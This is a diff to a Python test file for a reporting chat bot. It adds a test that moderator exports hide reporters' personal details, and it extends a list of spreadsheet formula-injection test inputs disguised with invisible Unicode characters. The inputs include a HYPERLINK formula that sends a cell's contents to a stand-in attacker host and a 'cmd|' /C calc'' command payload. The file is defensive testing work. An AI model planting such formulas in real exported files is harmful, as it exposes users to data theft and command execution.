@@ -144,6 +144,27 @@ async def test_export_has_personal_data_only_for_admins(sessions, chat) -> None:
     assert usage.text.startswith("Cách dùng: /export")
 
 
+async def test_a_moderators_export_hides_the_reporter_in_the_office_they_typed(
+    sessions, chat
+) -> None:
+    """The office is typed freely in the dialogue («phường 1, hỏi chị Hoa 0905…»): as the
+    story, a moderator's spreadsheet has it without the phone, the address or the name."""
+    code = await file_report(sessions, START, description="bị đòi tiền")
+    async with sessions() as session, session.begin():
+        report = await report_in(session, code)
+        report.office_text = "phường 1, gọi Nguyễn Thị Hoa 0905123456 hoa@gmail.com"
+        report.reporter_name = "Nguyễn Thị Hoa"
+    chat.clock.now = NOW
+    [sent] = await chat.say("/export", user=MODERATOR)
+    [row] = _rows(sent.files[0].path)
+    assert row["office_text"].startswith("phường 1, gọi ")
+    for private in ("Hoa", "0905123456", "gmail"):
+        assert private not in row["office_text"]
+    [sent] = await chat.say("/export", user=ADMIN)
+    [row] = _rows(sent.files[0].path)
+    assert "0905123456" in row["office_text"]
+
+
 async def test_export_files_are_deleted_a_day_later(sessions, chat, tmp_path: Path) -> None:
     """An admin's export holds personal data: the file is only the way to the chat."""
     folder = tmp_path / "exports"
@@ -185,6 +206,14 @@ HOSTILE_CELLS = (
     "﹢1",
     "﹣1",
     "−1+cmd",
+    # what shows nothing before the sign: direction marks, a soft hyphen, fillers, line breaks
+    '\u200e=HYPERLINK("http://attacker.invalid/?"&A1,"bấm")',
+    "\u202e\u2066+SUM(1,2)",
+    "\u00ad-2+3+cmd|' /C calc'!A0",
+    "\u180e\u3164@SUM(A1:A9)",
+    "\n=1+1",
+    "\x0b\x0c=1+1",
+    "\u2028＝1+1",
 )
 
 
